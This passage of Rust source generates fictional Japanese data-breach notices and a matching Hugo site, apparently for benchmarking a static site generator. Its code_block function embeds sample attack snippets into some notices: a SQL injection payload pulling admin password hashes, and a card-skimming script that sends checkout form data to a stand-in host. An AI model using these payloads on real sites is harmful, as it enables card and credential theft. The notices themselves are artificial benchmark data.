    pub raw_files: Vec<PathBuf>,
}

fn fill(t: &str, ctx: &Ctx<'_>, rng: &mut Rng) -> String {
    let mut s = t
        .replace("{svc}", &ctx.org.service)
        .replace("{org}", &ctx.org.name)
        .replace("{doc}", ctx.doc);
    if s.contains("{sys}") {
        s = s.replace("{sys}", *rng.pick(SYSTEMS));
    }
    if s.contains("{d1}") {
        s = s.replace("{d1}", &ctx.discovered.ja());
    }
    if s.contains("{d2}") {
        let d = ctx.discovered.add(rng.range(1, 9) as i64);
        s = s.replace("{d2}", &d.md());
    }
    if s.contains("{d3}") {
        let d = ctx.published.add(rng.range(30, 120) as i64);
        s = s.replace("{d3}", &d.ja());
    }
    if s.contains("{n1}") {
        let a = rng.log_range(1_000, 900_000);
        s = s.replace("{n1}", &thousands(a));
        s = s.replace("{n2}", &thousands(rng.range(1, a / 10)));
    }
    s
}

struct Ctx<'a> {
    org: &'a Org,
    doc: &'a str,
    discovered: Date,
    published: Date,
}

fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

fn pick_vector(rng: &mut Rng) -> &'static Vector {
    let total: u32 = VECTORS.iter().map(|v| v.weight).sum();
    let mut r = rng.below(total as usize) as u32;
    for v in VECTORS {
        if r < v.weight {
            return v;
        }
        r -= v.weight;
    }
    unreachable!()
}

fn vector(id: &str) -> &'static Vector {
    VECTORS.iter().find(|v| v.id == id).expect("known vector")
}

fn code_block(primary: &str, ctx: &Ctx<'_>, rng: &mut Rng) -> String {
    let ip = format!("203.0.113.{}", rng.range(1, 254));
    let d = ctx.discovered.iso();
    match primary {
        "sql-injection" => (
            "当該機能に送信されていたリクエストの一例を以下に示します（一部を伏せています）。\n\n```sql\nSELECT id, name, email FROM members\n WHERE name LIKE '%' UNION SELECT id, login, password_hash FROM admin_users -- %'\n ORDER BY id LIMIT 50;\n```\n"
        )
        .to_string(),
        "card-skimming" | "web-compromise" | "xss" => (
            "改ざんされたページには、次のようなスクリプトが挿入されていました（送信先のドメインは伏せています）。\n\n```javascript\ndocument.querySelector('#checkout').addEventListener('submit', function () {\n  var f = new FormData(this);\n  navigator.sendBeacon('https://cdn-analytics.example/c', JSON.stringify(Object.fromEntries(f)));\n});\n```\n"
        )
        .to_string(),
        "ransomware" | "remote-access" | "malware" => format!(
            "サーバーのイベントログには、次のような記録が残されていました。\n\n```text\n{d}T02:{:02}:11+09:00 sshd[2211]: Accepted password for maint from {ip} port 51022\n{d}T02:{:02}:40+09:00 sudo: maint : TTY=pts/0 ; USER=root ; COMMAND=/bin/bash\n{d}T03:05:02+09:00 kernel: audit: encrypting volume /srv/share (pid 4242)\n```\n",
            rng.range(0, 29),
            rng.range(30, 59)
        ),
        _ => format!(
            "当社のアクセスログには、次のような記録が残されていました（会員IDは伏せています）。\n\n```text\n{d}T03:14:07+09:00 POST /member/login {ip} id=********** status=302 result=success ua=\"Mozilla/5.0 (Windows NT 10.0)\"\n{d}T03:14:09+09:00 GET /member/mypage {ip} id=********** status=200\n```\n\n対象のシステム：{}\n",
            ctx.org.service
        ),
    }
}

#[allow(clippy::too_many_arguments)]
fn body(
    rng: &mut Rng,
    ctx: &Ctx<'_>,
    vectors: &[&'static str],
    stage: Option<&str>,
    prev: Option<&(String, i64, Date, String)>,
    records: u64,
    data: &[String],
    with_code: bool,
    with_table: bool,
) -> String {
    let target = rng.range(3_000, 7_600) as usize;
    let v0 = vector(vectors[0]);
    let municipal = ctx.org.kind == OrgKind::Municipality;
    let date_of = |d: Date| if municipal { d.wareki() } else { d.ja() };
    let mut intro = String::new();
    if let Some((_, _, d, t)) = prev {
        let _ = write!(
            intro,
            "{}にお知らせいたしました「{t}」につきまして、その後の調査の結果と対応の状況をご報告いたします。\n\n",
            date_of(*d)
        );
    }
    let event = fill(*rng.pick(v0.event), ctx, rng);
    let _ = write!(
        intro,
        "このたび、{}が{}が、{}に判明いたしました。\n\n",
        ctx.org.name,
        event,
        date_of(ctx.discovered)
    );
    intro.push_str(
        "お客様をはじめ関係者の皆様に多大なるご迷惑とご心配をおかけしておりますことを、深くお詫び申し上げます。\n",
    );

    let human = matches!(
        v0.id,
        "misdelivery" | "loss-theft" | "insider" | "misconfiguration" | "software-bug"
    );
    let mut chrono: Vec<String> = vec![fill(CHRONO[usize::from(human)], ctx, rng)];
    let mut causes: Vec<String> = Vec::new();
    for v in vectors {
        let v = vector(v);
        causes.push(fill(*rng.pick(v.cause), ctx, rng));
    }
    let first3 = rng.sample(MEASURES, 3);
    let mut measures: Vec<String> = first3.iter().map(|m| fill(m, ctx, rng)).collect();
    let mut asks: Vec<String> = vec![fill(*rng.pick(ASKS), ctx, rng)];

    let mut info = String::new();
    let verb = if stage == Some("最終報告") {
        "漏えいした情報"
    } else {
        "漏えいした可能性のある情報"
    };
    let _ = writeln!(info, "## 2. {verb}\n");
    let _ = writeln!(
        info,
        "- 対象：{}件（{}）",
        thousands(records),
        if stage == Some("最終報告") {
            "確定"
        } else {
            "現時点で判明している件数"
        }
    );
    for d in data {
        let _ = writeln!(info, "- {d}");
    }
    if data.iter().any(|d| d.contains("パスワード")) {
        info.push_str("\nなお、パスワードはハッシュ化して保存しておりました。\n");
    }

    let table = if with_table {
        let mut t = String::from("\n| 日付 | 対応 |\n|---|---|\n");
        let mut d = ctx.discovered;
        for step in [
            "不審な事象を検知",
            "該当システムを停止",
            "外部専門機関に調査を依頼",
            "個人情報保護委員会に報告",
            "対象の方へのご連絡を開始",
        ] {
            let _ = writeln!(t, "| {} | {step} |", d.md());
            d = d.add(rng.range(1, 6) as i64);
        }
        t
    } else {
        String::new()
    };
    let code = if with_code {
        code_block(vectors[0], ctx, rng)
    } else {
        String::new()
    };

    let contact = {
        let dept = *rng.pick(DEPTS);
        format!(
            "## 6. お問い合わせ先\n\n{} {dept}  \n電話：0120-{:03}-{:03}（受付時間：平日 9:00〜18:00）  \nメール：privacy@{}\n\n{}  \n{}\n",
            ctx.org.short,
            rng.range(100, 999),
            rng.range(100, 999),
            ctx.org.domain.trim_start_matches("www."),
            date_of(ctx.published),
            ctx.org.name
        )
    };

    let render = |chrono: &[String], causes: &[String], measures: &[String], asks: &[String]| {
        let mut b = String::with_capacity(target + 1024);
        b.push_str(&intro);
        b.push_str("\n## 1. 経緯\n\n");
        for c in chrono {
            b.push_str(c);
            b.push_str("\n\n");
        }
        b.push_str(&table);
        b.push('\n');
        b.push_str(&info);
        b.push_str("\n## 3. 原因\n\n");
        for c in causes {
            b.push_str(c);
            b.push_str("\n\n");
        }
        b.push_str(&code);
        b.push_str("\n## 4. お客様へのお願い\n\n");
        for a in asks {
            b.push_str(a);
            b.push_str("\n\n");
        }
        b.push_str("## 5. 再発防止策\n\n");
        for m in measures {
            b.push_str("- ");
            b.push_str(m);
            b.push('\n');
        }
        b.push('\n');
        b.push_str(CLOSINGS[0]);
        b.push_str("\n\n");
        b.push_str(&contact);
        b
    };
    let size = |c: &[String], k: &[String], m: &[String], a: &[String]| {
        let n = |xs: &[String]| xs.iter().map(|s| s.len() + 2).sum::<usize>();
        intro.len()
            + table.len()
            + info.len()
            + code.len()
            + contact.len()
            + CLOSINGS[0].len()
            + 120
            + n(c)
            + n(k)
            + n(m)
            + n(a)
    };
    // Pad to the target size, section by section, never past 8 KB.
    let mut guard = 0;
    let mut used: HashSet<&str> = HashSet::new();
    used.insert(CHRONO[usize::from(human)]);
    while size(&chrono, &causes, &measures, &asks) < target && guard < 200 {
        guard += 1;
        let which = rng.below(10);
        let pool: &[&str] = match which {
            0..=3 => CHRONO,
            4..=6 => CAUSE_FILL,
            7..=8 => MEASURES,
            _ => ASKS,
        };
        // Prefer a sentence this notice has not used yet.
        let mut t = *rng.pick(pool);
        for _ in 0..8 {
            if used.insert(t) {
                break;
            }
            t = *rng.pick(pool);
        }
        let s = fill(t, ctx, rng);
        if size(&chrono, &causes, &measures, &asks) + s.len() + 2 > 8_000 {
            break;
        }
        match which {
            0..=3 => chrono.push(s),
            4..=6 => causes.push(s),
            7..=8 => measures.push(s),
            _ => asks.push(s),
        }
    }
    render(&chrono, &causes, &measures, &asks)
}

fn toml_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            _ => out.push(c),
        }
    }
    out.push('"');
    out
}

fn toml_list<S: AsRef<str>>(xs: &[S]) -> String {
    let items: Vec<String> = xs.iter().map(|x| toml_str(x.as_ref())).collect();
    format!("[{}]", items.join(", "))
}

fn generate_notices(n: usize, seed: u64) -> (Vec<Notice>, Vec<Org>) {
    let mut rng = Rng::new(seed);
    let orgs = make_orgs(&mut rng, (n / 5).max(10));
    let mut notices: Vec<Notice> = Vec::with_capacity(n);
    let mut ids: HashSet<String> = HashSet::with_capacity(n);
    let first = Date::ymd(2015, 1, 1);
    let days = Date::ymd(2025, 12, 31).0 - first.0 - 200;
    while notices.len() < n {
        // Heavy head: a few organizations publish often.
        let org_i = ((orgs.len() as f64) * rng.unit().powf(1.6)) as usize;
        let org = &orgs[org_i.min(orgs.len() - 1)];
        let releases = if rng.chance(0.10) {
            if rng.chance(0.5) {
                2
            } else {
                3
            }
        } else {
            1
        }
        .min(n - notices.len());
        let mut v0 = pick_vector(&mut rng);
        // Municipalities, schools and hospitals rarely run card shops.
        if org.kind != OrgKind::Company && v0.id == "card-skimming" {
            v0 = vector("misdelivery");
        }
        let mut vectors = vec![v0.id];
        if !v0.with.is_empty() && rng.chance(0.3) {
            let w = *rng.pick(v0.with);
            if !(org.kind != OrgKind::Company && w == "card-skimming") {
                vectors.push(w);
            }
        }
        let discovered = first.add(rng.below(days as usize) as i64);
        let exposure = if rng.chance(0.4) {
            let from = discovered.add(-(rng.range(3, 700) as i64));
            Some((from, discovered.add(-(rng.range(0, 2) as i64))))
        } else {
            None
        };
        let doc = *rng.pick(DOCS);
        let mut records = rng.log_range(v0.records.0, v0.records.1);
        let cards = vectors
            .contains(&"card-skimming")
            .then(|| (records as f64 * (0.3 + 0.6 * rng.unit())) as u64 + 1);
        let k = rng.range(3, v0.data.len().min(7) as u64) as usize;
        let mut data: Vec<String> = rng
            .sample(v0.data, k)
            .into_iter()
            .map(String::from)
            .collect();
        match org.kind {
            OrgKind::Hospital => data.push("診療科".into()),
            OrgKind::University => data.push("学籍番号".into()),
            OrgKind::Municipality if rng.chance(0.3) => data.push("税額".into()),
            _ => {}
        }
        let title_base = fill(
            *rng.pick(v0.titles),
            &Ctx {
                org,
                doc,
                discovered,
                published: discovered,
            },
            &mut rng,
        );
        let stages: Vec<Option<&str>> = match releases {
            1 => vec![*rng.pick(&[None, None, None, Some("第1報"), Some("最終報告")])],
            2 => vec![
                Some("第1報"),
                Some(*rng.pick(&["最終報告", "続報", "第2報"])),
            ],
            _ => vec![
                Some("第1報"),
                Some(*rng.pick(&["第2報", "続報"])),
                Some("最終報告"),
            ],
        };
        let incident_key = (releases > 1).then(|| {
            let (y, m, _) = discovered.parts();
            format!("{}-{y}-{m:02}", org.slug)
        });
        let mut published = discovered.add(rng.range(1, 30) as i64);
        let mut prev: Option<(String, i64, Date, String)> = None;
        for stage in stages {
            let title = match stage {
                Some(s) if releases > 1 || rng.chance(0.5) => format!("{title_base}（{s}）"),
                _ => title_base.clone(),
            };
            let (y, m, d) = published.parts();
            let mut id = format!("{}-{y}-{m:02}-{d:02}", org.slug);
            let mut k = 2;
            while ids.contains(&id) {
                id = format!("{}-{y}-{m:02}-{d:02}-{k}", org.slug);
                k += 1;
            }
            ids.insert(id.clone());
            let mut labels: Vec<String> = stage.iter().map(|s| s.to_string()).collect();
            if !org.label.is_empty() {
                labels.push(org.label.to_string());
            }
            if stage == Some("最終報告") || stage == Some("第2報") || stage == Some("続報")
            {
                records += records / rng.range(5, 40);
            }
            let with_code = rng.chance(0.05);
            let with_table = rng.chance(0.3);
            let ctx = Ctx {
                org,
                doc,
                discovered,
                published,
            };
            let body = body(
                &mut rng,
                &ctx,
                &vectors,
                stage,
                prev.as_ref(),
                records,
                &data,
                with_code,
                with_table,
            );
            notices.push(Notice {
                id: id.clone(),
                year: y,
                title: title.clone(),
                org: org_i.min(orgs.len() - 1),
                published,
                incident: incident_key.clone(),
                labels,
                vectors: vectors.clone(),
                records,
                cards,
                data: data.clone(),
                exposure,
                discovered,
                follows: prev.take(),
                source: format!("https://{}/news/{y}/{m:02}{d:02}.html", org.domain),
                body,
            });
            prev = Some((id, y, published, title));
            published = published.add(rng.range(7, 75) as i64);
        }
    }
    (notices, orgs)
}

fn jikenbo_front_matter(n: &Notice, org: &Org) -> String {
    let mut s = String::with_capacity(1024);
    s.push_str("+++\n");
    let _ = writeln!(s, "title = {}", toml_str(&n.title));
    let _ = writeln!(s, "org = {}", toml_str(&org.name));
    let _ = writeln!(s, "published = {}", n.published.iso());
    if let Some(k) = &n.incident {
        let _ = writeln!(s, "incident = {}", toml_str(k));
    }
    if !n.labels.is_empty() {
        let _ = writeln!(s, "labels = {}", toml_list(&n.labels));
    }
    let _ = writeln!(s, "vectors = {}", toml_list(&n.vectors));
    let _ = writeln!(s, "records = {}", n.records);
    if let Some(c) = n.cards {
        let _ = writeln!(s, "cards = {c}");
    }
    let _ = writeln!(s, "data = {}", toml_list(&n.data));
    if let Some((from, to)) = n.exposure {
        let _ = writeln!(
            s,
            "exposure = {{ from = {}, to = {} }}",
            from.iso(),
            to.iso()
        );
    }
    let _ = writeln!(s, "discovered = {}", n.discovered.iso());
    if let Some((id, _, d, t)) = &n.follows {
        let _ = writeln!(s, "follows = [{}]", toml_str(id));
        let _ = writeln!(
            s,
            "refers = [{{ date = {}, title = {} }}]",
            d.iso(),
            toml_str(t)
        );
    }
    let _ = writeln!(s, "source = {}", toml_str(&n.source));
    s.push_str("+++\n\n");
    s
}

fn hugo_front_matter(n: &Notice, org: &Org) -> String {
    let mut s = String::with_capacity(1024);
    s.push_str("+++\n");
    let _ = writeln!(s, "title = {}", toml_str(&n.title));
    let _ = writeln!(s, "date = {}", n.published.iso());
    let _ = writeln!(s, "years = [\"{}\"]", n.year);
    let _ = writeln!(s, "orgs = [{}]", toml_str(&org.name));
    let _ = writeln!(s, "vectors = {}", toml_list(&n.vectors));
    if !n.labels.is_empty() {
        let _ = writeln!(s, "labels = {}", toml_list(&n.labels));
    }
    if let Some(k) = &n.incident {
        let _ = writeln!(s, "incidents = [{}]", toml_str(k));
        let _ = writeln!(s, "incident = {}", toml_str(k));
    }
    let _ = writeln!(s, "records = {}", n.records);
    if let Some(c) = n.cards {
        let _ = writeln!(s, "cards = {c}");
    }
    let _ = writeln!(s, "data = {}", toml_list(&n.data));
    if let Some((from, to)) = n.exposure {
        let _ = writeln!(s, "exposure_from = {}", toml_str(&from.iso()));
        let _ = writeln!(s, "exposure_to = {}", toml_str(&to.iso()));
    }
    let _ = writeln!(s, "discovered = {}", toml_str(&n.discovered.iso()));
    if let Some((id, y, _, _)) = &n.follows {
        let _ = writeln!(s, "follows = [\"/notices/{y}/{id}\"]");
    }
    let _ = writeln!(s, "source = {}", toml_str(&n.source));
    s.push_str("+++\n\n");
    s
}

fn write_file(path: &Path, bytes: &[u8]) -> io::Result<()> {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir)?;
    }
    fs::write(path, bytes)
}

/// The base URL of both sites (a project subpath, as on GitHub Pages).
pub const BASE_URL: &str = "https://example.github.io/jikenbo-bench/";

/// Writes the jikenbo site into `jikenbo_dir`, raw copies of up to `raw_max` notices into
/// `raw_dir`, and, when `hugo_dir` is given, the equivalent Hugo site.
pub fn generate(
    n: usize,
    seed: u64,
    jikenbo_dir: &Path,
    hugo_dir: Option<&Path>,
    raw_dir: &Path,
    raw_max: usize,
) -> io::Result<Corpus> {
    let (notices, orgs) = generate_notices(n, seed);
    write_file(
        &jikenbo_dir.join("site.toml"),
        format!(
            "title = \"ベンチマーク事件簿\"\ndescription = \"jikenbo のベンチマーク用に生成した架空のお知らせ {n} 件\"\nbase_url = \"{BASE_URL}\"\nlanguage = \"ja\"\ntheme = \"default\"\npaginate_by = 20\nfeed_limit = 50\n"
        )
        .as_bytes(),
    )?;
    if let Some(h) = hugo_dir {
        let kinds: BTreeSet<&str> = notices
            .iter()
            .flat_map(|x| x.data.iter().map(String::as_str))
            .collect();
        write_hugo_skeleton(h, n, &kinds)?;
    }
    let mut corpus = Corpus {
        notices: notices.len(),
        orgs: notices.iter().map(|x| x.org).collect::<HashSet<_>>().len(),
        series_notices: notices.iter().filter(|x| x.incident.is_some()).count(),
        with_code: notices.iter().filter(|x| x.body.contains("```")).count(),
        with_table: notices.iter().filter(|x| x.body.contains("|---|")).count(),
        content_bytes: 0,
        files: Vec::with_capacity(n),
        raw_files: Vec::new(),
    };
    for (i, x) in notices.iter().enumerate() {
        let org = &orgs[x.org];
        let rel = format!("content/notices/{}/{}.md", x.year, x.id);
        let mut text = jikenbo_front_matter(x, org);
        text.push_str(&x.body);
        let path = jikenbo_dir.join(&rel);
        write_file(&path, text.as_bytes())?;
        corpus.content_bytes += text.len() as u64;
        corpus.files.push(path);
        if let Some(h) = hugo_dir {
            let mut text = hugo_front_matter(x, org);
            text.push_str(&x.body);
            write_file(&h.join(&rel), text.as_bytes())?;
        }
        if i < raw_max {
            // What a notice looks like before import: title, body, no front matter.
            let raw = format!("{}\n\n{}", x.title, x.body);
            let path = raw_dir.join(format!("{}.txt", x.id));
            write_file(&path, raw.as_bytes())?;
            corpus.raw_files.push(path);
        }
    }
    Ok(corpus)
}

fn vector_name(id: &str) -> &'static str {
    match id {
        "unauthorized-access" => "不正アクセス",
        "web-compromise" => "Webサイトの改ざん・脆弱性悪用",
        "card-skimming" => "決済情報の窃取",
        "sql-injection" => "SQLインジェクション",
        "xss" => "クロスサイトスクリプティング",
        "remote-access" => "VPN・リモート接続の悪用",
        "ransomware" => "ランサムウェア",
        "malware" => "マルウェア感染",
        "phishing" => "フィッシング・なりすまし",
        "account-takeover" => "不正ログイン",
        "misdelivery" => "誤送信・誤送付",
        "loss-theft" => "紛失・盗難",
        "insider" => "内部不正",
        "misconfiguration" => "設定不備・誤公開",
        "software-bug" => "システム不具合",
        _ => "委託先経由",
    }
}

/// A config `--hugo-pages-only` adds to hugo.toml: the same site without the dataset outputs.
pub const HUGO_PAGES_ONLY: &str =
    "[outputs]\nhome = [\"html\", \"rss\"]\ntaxonomy = [\"html\"]\nterm = [\"html\", \"rss\"]\n";

/// hugo.toml, templates comparable to jikenbo's default theme, stylesheets and the vector names.
///
/// The pages carry what jikenbo's carry (meta card, earlier releases and follow-ups, the incident
/// timeline, up to five more notices of the same organization, prev/next within the incident;
/// summaries on the home list only; no sidebar on notices), written as a Hugo user who cares about
/// build time would: `.GetTerms` walks every term of a taxonomy in Hugo 0.111, so it is used only
/// for the small ones (years, vectors, labels), and an organization's or incident's term is looked
/// up by key in `site.Taxonomies`; cards, the sidebar, the organization lookups and the follow-up
/// index (built once from `.Params.follows`) are `partialCached`; the pager visits only the pages
/// it links.
fn write_hugo_skeleton(dir: &Path, n: usize, kinds: &BTreeSet<&str>) -> io::Result<()> {
    let config = format!(
        r#"baseURL = "{BASE_URL}"
languageCode = "ja"
defaultContentLanguage = "ja"
title = "ベンチマーク事件簿"
hasCJKLanguage = true
paginate = 20
disableKinds = ["section"]
enableRobotsTXT = true

[params]
description = "jikenbo のベンチマーク用に生成した架空のお知らせ {n} 件"

[services.rss]
limit = 50

# Feeds for the home page and each term, as in jikenbo; none for the taxonomy indexes. The home
# page also writes the dataset jikenbo writes: data/notices.json and data/notices.csv.
[outputs]
home = ["html", "rss", "dataset", "datasetcsv"]

[outputFormats.dataset]
mediaType = "application/json"
baseName = "notices"
path = "data"
isPlainText = true
notAlternative = true

[outputFormats.datasetcsv]
mediaType = "text/csv"
baseName = "notices"
path = "data"
isPlainText = true
notAlternative = true
taxonomy = ["html"]
term = ["html", "rss"]

[permalinks]
notices = "/notices/:filename/"

[taxonomies]
year = "years"
vector = "vectors"
label = "labels"
org = "orgs"
incident = "incidents"

[markup.highlight]
noClasses = false

# jikenbo writes no feed per incident: neither does this site.
[[cascade]]
outputs = ["html"]
[cascade._target]
path = "/incidents/**"
"#
    );
    write_file(&dir.join("hugo.toml"), config.as_bytes())?;

    let mut vectors = String::new();
    for v in VECTORS {
        let _ = writeln!(
            vectors,
            "{} = {}",
            toml_str(v.id),
            toml_str(vector_name(v.id))
        );
    }
    write_file(&dir.join("data/vectors.toml"), vectors.as_bytes())?;
    // The dataset's lookups, as a Hugo user would keep them: VERIS per vector, and the Have I
    // Been Pwned class per data kind (taken from jikenbo's table, for every kind the generator
    // writes).
    let mut veris = String::new();
    for v in jikenbo::vocab::builtin_vectors() {
        let _ = writeln!(veris, "{} = {}", toml_str(&v.id), toml_str(&v.veris));
    }
    write_file(&dir.join("data/veris.toml"), veris.as_bytes())?;
    let mut hibp = String::new();
    for kind in kinds {
        if let Some(class) = jikenbo::vocab::hibp_class(kind) {
            let _ = writeln!(hibp, "{} = {}", toml_str(kind), toml_str(class));
        }
    }
    write_file(&dir.join("data/hibp.toml"), hibp.as_bytes())?;
    write_file(
        &dir.join("static/style.css"),
        b"body{font-family:sans-serif;margin:0}.wrap{max-width:60rem;margin:auto}.layout{display:grid;grid-template-columns:1fr 16rem;gap:2rem}.tag{display:inline-block;padding:0 .4em;border:1px solid #ccc;border-radius:.3em;margin-right:.3em}.meta-card{display:grid;grid-template-columns:8em 1fr}.muted{color:#666}\n",
    )?;
    // jikenbo writes its syntax highlighting classes too (markup.highlight.noClasses = false).
    write_file(
        &dir.join("static/highlight.css"),
        b".chroma{background:#f7f7f7}.chroma .k,.chroma .kd,.chroma .kn{color:#a71d5d}.chroma .s,.chroma .s1,.chroma .s2{color:#183691}.chroma .c,.chroma .c1,.chroma .cm{color:#969896;font-style:italic}.chroma .m,.chroma .mi{color:#0086b3}.chroma .nf,.chroma .nx{color:#795da3}\n",
    )?;
    write_file(
        &dir.join("static/site.js"),
        b"document.addEventListener('click',e=>{if(e.target.closest('.theme-toggle'))document.documentElement.classList.toggle('dark')});\n",
    )?;
    for (name, text) in HUGO_LAYOUTS {
        write_file(&dir.join("layouts").join(name), text.as_bytes())?;
    }
    Ok(())
}

const HUGO_LAYOUTS: &[(&str, &str)] = &[
    (
        "_default/baseof.html",
        r##"<!doctype html>
<html lang="ja">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{{ if .IsHome }}{{ site.Title }}{{ else }}{{ .Title }} | {{ site.Title }}{{ end }}</title>
{{ $desc := site.Params.description }}{{ if .IsPage }}{{ $desc = .Summary | plainify | truncate 120 }}{{ end }}
<meta name="description" content="{{ $desc }}">
<link rel="canonical" href="{{ .Permalink }}">
<meta property="og:type" content="{{ if .IsPage }}article{{ else }}website{{ end }}">
<meta property="og:title" content="{{ .Title }}">
<meta property="og:description" content="{{ $desc }}">
<meta property="og:url" content="{{ .Permalink }}">
<meta property="og:site_name" content="{{ site.Title }}">
<meta property="og:locale" content="ja_JP">
<meta name="twitter:card" content="summary">
<link rel="stylesheet" href="{{ "style.css" | relURL }}">
<link rel="stylesheet" href="{{ "highlight.css" | relURL }}">
<link rel="alternate" type="application/rss+xml" title="{{ site.Title }}" href="{{ "index.xml" | relURL }}">
{{ with .OutputFormats.Get "rss" }}<link rel="alternate" type="application/rss+xml" href="{{ .RelPermalink }}">{{ end }}
<script src="{{ "site.js" | relURL }}"></script>
</head>
<body class="kind-{{ .Kind }}">
<a class="skip" href="#main">本文へ移動</a>
<header class="site-header">
  <div class="wrap header-row">
    <a class="site-title" href="{{ "" | relURL }}">{{ site.Title }}</a>
    <button class="theme-toggle" type="button" aria-label="表示切替"><span aria-hidden="true">◐</span></button>
  </div>
  <nav class="wrap site-nav" aria-label="sections">
    <a href="{{ "years/" | relURL }}">年</a><a href="{{ "vectors/" | relURL }}">攻撃手法</a><a href="{{ "labels/" | relURL }}">ラベル</a><a href="{{ "orgs/" | relURL }}">組織</a>
  </nav>
</header>
<div class="wrap layout">
<main id="main">
{{ block "main" . }}{{ end }}
</main>
{{- /* Notice pages carry no sidebar, as in jikenbo's theme: it is the same on every page. */}}
{{ if not .IsPage }}<aside class="sidebar">
{{ partialCached "sidebar.html" . }}
</aside>{{ end }}
</div>
<footer class="site-footer">
  <div class="wrap"><p>{{ site.Title }} — {{ len site.RegularPages }}件 · <a href="{{ "index.xml" | relURL }}">RSS</a></p></div>
</footer>
</body>
</html>
"##,
    ),
    (
        "partials/sidebar.html",
        r##"<section>
  <h2>ラベル</h2>
  <ul class="term-counts">{{ range site.Taxonomies.labels.ByCount }}<li><a href="{{ .Page.RelPermalink }}">{{ .Page.LinkTitle }}</a> <span class="count">({{ .Count }})</span></li>{{ end }}</ul>
</section>
<section>
  <h2>攻撃手法</h2>
  <ul class="term-counts">{{ range site.Taxonomies.vectors.ByCount }}<li><a href="{{ .Page.RelPermalink }}">{{ index site.Data.vectors .Name }}</a> <span class="count">({{ .Count }})</span></li>{{ end }}</ul>
</section>
<section>
  <h2>年</h2>
  <ul class="term-counts">{{ range site.Taxonomies.years.Alphabetical.Reverse }}<li><a href="{{ .Page.RelPermalink }}">{{ .Page.LinkTitle }}</a> <span class="count">({{ .Count }})</span></li>{{ end }}</ul>
</section>
"##,
    ),
    (
        "partials/card.html",
        r##"{{ $p := .p }}
<article class="card">
  <h3 class="card-title"><a href="{{ $p.RelPermalink }}">{{ $p.Title }}</a></h3>
  <p class="card-meta">
    <time datetime="{{ $p.Date.Format "2006-01-02" }}">{{ $p.Date.Format "2006-01-02" }}</time>
    {{ range $p.Params.orgs }}<span class="org"><a href="{{ (partialCached "org.html" . .).Page.RelPermalink }}">{{ . }}</a></span>{{ end }}
    {{ with $p.Params.records }}<span class="records">{{ lang.FormatNumberCustom 0 . }}件</span>{{ end }}
  </p>
  <p class="tags">
    {{ range $p.GetTerms "vectors" }}<a class="tag vector" href="{{ .RelPermalink }}">{{ index site.Data.vectors .Data.Term }}</a>{{ end }}
    {{ range $p.GetTerms "labels" }}<a class="tag label" href="{{ .RelPermalink }}">{{ .LinkTitle }}</a>{{ end }}
  </p>
  {{ if .summary }}<p class="summary">{{ $p.Summary | plainify | truncate 90 }}</p>{{ end }}
  {{ with $p.Params.incident }}{{ $first := index (site.Taxonomies.incidents.Get .).Pages.ByDate 0 }}{{ if ne $first $p }}<p class="first-report">最初の発表: <a href="{{ $first.RelPermalink }}">{{ $first.Title }}</a></p>{{ end }}{{ end }}
</article>
"##,
    ),
    (
        "partials/link.html",
        r##"<a href="{{ .RelPermalink }}">{{ .Title }}</a> <span class="muted">({{ .Date.Format "2006-01-02" }}・{{ index .Params.orgs 0 }})</span>{{- /* no trailing newline */ -}}
"##,
    ),
    (
        "partials/org.html",
        r##"{{- /* The orgs term of an organization name: its taxonomy key is the unescaped path of its URL (urlize). */ -}}
{{- return site.Taxonomies.orgs.Get (urls.Parse (urlize .)).Path -}}
"##,
    ),
    (
        "partials/followers.html",
        r##"{{- /* Reverse index of `follows`, built once per site (partialCached): content path → pages. */ -}}
{{- $s := newScratch -}}
{{- range site.RegularPages -}}{{- $p := . -}}{{- range .Params.follows -}}{{- $s.Add . (slice $p) -}}{{- end -}}{{- end -}}
{{- return $s.Values -}}
"##,
    ),
    (
        "partials/pager.html",
        r##"{{ if gt .TotalPages 1 }}
{{- /* The first, the last and two either side of the current page, with gaps: only those pagers are visited. */}}
{{ $cur := .PageNumber }}{{ $total := .TotalPages }}{{ $pagers := .Pagers }}
{{ $lo := cond (gt $cur 3) (sub $cur 2) 1 }}{{ $hi := cond (lt (add $cur 2) $total) (add $cur 2) $total }}
<nav class="pager" aria-label="pagination">
  {{ with .Prev }}<a rel="prev" href="{{ .URL }}">← 前へ</a>{{ end }}
  {{ if gt $lo 1 }}<a href="{{ (index $pagers 0).URL }}">1</a>{{ if gt $lo 2 }}<span class="gap">…</span>{{ end }}{{ end }}{{ range seq $lo $hi }}{{ if eq . $cur }}<span class="current" aria-current="page">{{ . }}</span>{{ else }}<a href="{{ (index $pagers (sub . 1)).URL }}">{{ . }}</a>{{ end }}{{ end }}{{ if lt $hi $total }}{{ if lt $hi (sub $total 1) }}<span class="gap">…</span>{{ end }}<a href="{{ (index $pagers (sub $total 1)).URL }}">{{ $total }}</a>{{ end }}
  {{ with .Next }}<a rel="next" href="{{ .URL }}">次へ →</a>{{ end }}
</nav>
{{ end }}
"##,
    ),
    (
        "_default/single.html",
        r##"{{ define "main" }}
{{ $self := . }}
{{ $orgName := index .Params.orgs 0 }}
{{ $org := partialCached "org.html" $orgName $orgName }}
{{ $inc := .Params.incident }}
{{ $incTerm := false }}{{ $incPages := slice }}
{{ with $inc }}{{ $w := site.Taxonomies.incidents.Get . }}{{ $incTerm = $w.Page }}{{ $incPages = $w.Pages.ByDate }}{{ end }}
<article class="notice">
  <header>
    {{ with .GetTerms "labels" }}<p class="tags">{{ range . }}<a class="tag label" href="{{ .RelPermalink }}">{{ .LinkTitle }}</a>{{ end }}</p>{{ end }}
    <h1>{{ .Title }}</h1>
  </header>
  <dl class="meta-card">
    {{ with $org }}<dt>組織</dt><dd><a href="{{ .Page.RelPermalink }}">{{ $orgName }}</a></dd>{{ end }}
    <dt>公表日</dt><dd><time datetime="{{ .Date.Format "2006-01-02" }}">{{ range .GetTerms "years" }}<a href="{{ .RelPermalink }}">{{ end }}{{ .Date.Format "2006-01-02" }}</a></time></dd>
